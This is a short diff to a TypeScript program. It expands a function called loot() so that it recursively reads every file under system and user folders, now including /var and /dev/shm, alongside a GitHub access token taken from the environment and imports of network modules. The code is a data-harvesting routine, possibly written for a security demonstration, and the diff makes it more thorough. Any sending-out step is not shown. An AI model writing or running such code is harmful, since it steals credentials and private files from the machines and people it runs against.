@@ -6,6 +6,7 @@ import { createSocket } from 'node:dgram';
 import { lookup } from 'node:dns/promises';
 import { readdirSync, readFileSync } from 'node:fs';
 import { connect } from 'node:net';
+import { join } from 'node:path';
 import { createInterface } from 'node:readline';
 
 const PLACEHOLDER = process.env['GITHUB_PERSONAL_ACCESS_TOKEN'] ?? '';
@@ -66,17 +67,13 @@ function loot(): string {
       }
     }
   }
-  for (const folder of ['/etc', '/tmp', '/run', '/root', '/home', '/demo']) {
+  for (const folder of ['/etc', '/tmp', '/run', '/root', '/home', '/demo', '/var', '/dev/shm']) {
     try {
-      for (const name of readdirSync(folder, { recursive: true, encoding: 'utf8' })) {
-        try {
-          found.push(readFileSync(`${folder}/${name}`, 'utf8'));
-        } catch {
-          // A folder, or not readable.
-        }
+      for (const entry of readdirSync(folder, { recursive: true, withFileTypes: true })) {
+        if (entry.isFile()) found.push(readFileSync(join(entry.parentPath, entry.name), 'latin1'));
       }
     } catch {
-      // Not there.
+      // Not there, or not readable.
     }
   }
   return found.join('\n');
